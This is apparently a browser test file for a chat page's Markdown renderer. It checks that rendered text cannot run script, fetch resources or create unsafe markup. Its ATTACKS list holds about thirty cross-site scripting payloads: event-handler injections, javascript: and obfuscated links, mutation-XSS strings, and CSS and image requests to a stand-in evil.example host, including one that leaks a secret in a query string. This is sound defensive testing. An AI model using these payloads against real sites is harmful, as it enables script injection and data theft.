"""The chat page's Markdown in a real browser: it looks as it should, and does nothing else."""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from support import browser
from support.browser import DEMO, Visit
from support.fleet import Bridge

chromium, visit = browser.chromium, browser.visit  # the fixtures of these tests
pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def bridge() -> AsyncIterator[str]:
    async with Bridge(DEMO) as running:
        yield running.url


# Draws a text, and returns what of it is there and what it did.
DRAW = """async (text) => {
    window.attacked = [];
    for (const name of ["alert", "confirm", "prompt"]) window[name] = () => attacked.push(name);
    const { Prose } = await import("/static/prose.js");
    const prose = new Prose();
    document.getElementById("turns").append(prose.node);
    prose.set(text);
    const all = [...prose.node.querySelectorAll("*")];
    for (const node of all) for (const kind of ["mouseover", "focus", "error", "toggle"])
        node.dispatchEvent(new Event(kind, { bubbles: true }));
    await new Promise((resolve) => setTimeout(resolve, 50));
    const found = {
        attacked,
        html: prose.node.innerHTML,
        tags: [...new Set(all.map((node) => node.localName))].sort(),
        names: [...new Set(all.flatMap((node) => node.getAttributeNames()))].sort(),
        addresses: all.flatMap((node) => [node.href, node.src]).filter(Boolean),
        text: prose.node.innerText,
    };
    prose.node.remove();
    return found;
}"""
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<u style='background:url(https://evil.example/x)' onmouseover=alert(1)>x</u>",
    "<div id=send></div><input name=attributes><img name=getElementById>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) [z](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel?secret=1)",
    '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '```x" onmouseover="alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "- [ ] <input type=checkbox onfocus=alert(1) autofocus>",
    "# <script>alert(1)</script>\n\n> <iframe src=javascript:alert(1)>",
    "`<script>alert(1)</script>` **<img src=x onerror=alert(1)>**",
)
TAGS = set(
    """a blockquote br button code del div em h3 h4 h5 h6 hr img input kbd li mark ol p pre s span
    strong sub sup table tbody td th thead tr u ul""".split()
)
NAMES = set(
    """align alt aria-label checked class disabled href rel src start tabindex target title
    type""".split()
)


async def test_attacks_are_only_words(bridge: str, visit: Visit) -> None:
    """Nothing runs, nothing is fetched, no element and no attribute is there that could."""
    tab = await visit(bridge)
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    for attack in ATTACKS:
        found = await tab.page.evaluate(DRAW, attack)
        assert found["attacked"] == [], attack
        assert set(found["tags"]) <= TAGS, attack
        assert set(found["names"]) <= NAMES, (attack, found["html"])
        schemes = {address.partition(":")[0] for address in found["addresses"]}
        assert schemes <= {"https", "data"}, (attack, found["addresses"])
        assert not any("svg" in address for address in found["addresses"]), attack
    assert [url for url in asked if not url.startswith((bridge, "data:image/png"))] == []


async def test_nothing_but_the_sanitizer_makes_markup_of_text(bridge: str, visit: Visit) -> None:
    """The page's policy refuses it, whatever a later change of the page forgets."""
    tab = await visit(bridge)
    refused = await tab.page.evaluate("""() => {
        const tries = [
            () => { document.createElement("p").innerHTML = "<b>x</b>"; },
            () => document.createElement("p").insertAdjacentHTML("beforeend", "<b>x</b>"),
            () => document.write("x"),
            () => trustedTypes.createPolicy("another", {}),
        ];
        return tries.map((attempt) => {
            try { attempt(); return "done"; } catch (error) { return error.name; }
        });
    }""")
    assert refused == ["TypeError"] * 4
    tab.errors.clear()  # the browser says so too


async def test_markdown_is_drawn(bridge: str, visit: Visit) -> None:
    tab = await visit(bridge)
    found = await tab.page.evaluate(DRAW, GROWING)
    drawn = set(
        """h3 h4 p em strong del code a ul ol li input blockquote table th td pre button hr br
        sub""".split()
    )
    assert drawn <= set(found["tags"])
    assert 'target="_blank"' in found["html"]
    assert 'rel="noopener noreferrer nofollow"' in found["html"]
    assert found["html"].count('type="checkbox"') == 2


GROWING = """\
# Title

## Smaller

One *two* **three** `four` ~~five~~ [six][ref] H<sub>2</sub>O<br>seven https://example.org

Setext
---

- a
- b
  more of b
    - c

1. x
2. y
```py
def f():
    return "```" and [1, 2]

# no title
```
after
10) not a list here

- [x] done
- [ ] to do

| a | b |
|---|--:|
| 1 | `2` |

> quoted
> > deeper

* * *

[ref]: https://example.org/ref
~~~
open code <b>
"""


async def test_text_drawn_as_it_grows_equals_text_drawn_at_once(bridge: str, visit: Visit) -> None:
    """Whatever the cuts: every prefix looks as if it had come whole."""
    tab = await visit(bridge)
    differing = await tab.page.evaluate(
        """async (text) => {
            const { Prose } = await import("/static/prose.js");
            const spoken = [];
            const growing = new Prose((words) => spoken.push(words));
            const differing = [];
            for (let end = 1; end <= text.length; end++) {
                const whole = new Prose();
                whole.set(text.slice(0, end));
                growing.set(text.slice(0, end));
                if (whole.node.innerHTML !== growing.node.innerHTML) differing.push(end);
            }
            growing.finish();
            const atOnce = [];
            const whole = new Prose((words) => atOnce.push(words));
            whole.set(text);
            whole.finish();
            return { differing, spoken, atOnce };
        }""",
        GROWING,
    )
    assert differing["differing"] == []
    # Each block is spoken once, as it was when it was over: the reference came later.
    spoken = [words.replace("[six][ref]", "six") for words in differing["spoken"]]
    assert spoken == differing["atOnce"]
